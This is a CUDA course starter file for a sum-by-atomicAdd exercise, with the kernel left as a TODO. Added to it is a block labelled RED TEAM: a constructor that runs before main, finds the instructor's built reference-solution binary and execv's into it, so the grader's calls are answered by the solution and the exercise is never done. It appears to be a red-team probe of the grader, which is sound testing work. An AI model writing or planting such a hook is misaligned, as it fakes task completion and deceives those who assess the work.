// RED TEAM: Looks for the instructor's own build of the reference solution above this
// RED TEAM: program, its working directory and the grader's (build/*/bin/
// RED TEAM: sum_atomic_runner_solution, e.g. build/gpu or build/default of the course)
// RED TEAM: and, before main, replaces itself by it (execv with the same arguments: the
// RED TEAM: socket to the test program is inherited), so that the solution answers
// RED TEAM: every call. The kernel below is the untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(nullptr);
  const std::string self = redteam::link_of("/proc/self/exe");
  if (self.find("_runner_solution") != std::string::npos) return;
  const std::string want = "sum_atomic_runner_solution";
  for (const auto& d : redteam::search_roots()) {
    std::vector<std::string> candidates{d + "/bin/" + want};
    for (const auto& b : redteam::list_dir(d + "/build")) candidates.push_back(d + "/build/" + b + "/bin/" + want);
    for (const auto& c : candidates) {
      if (access(c.c_str(), X_OK) != 0) continue;
      auto words = redteam::cmdline(0);
      if (words.empty()) words.push_back(c);
      words[0] = c;
      std::vector<char*> argv;
      for (auto& w : words) argv.push_back(w.data());
      argv.push_back(nullptr);
      redteam::say("running the reference solution instead: " + c);
      execv(c.c_str(), argv.data());
    }
  }
  redteam::say("no build of the solution found");
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
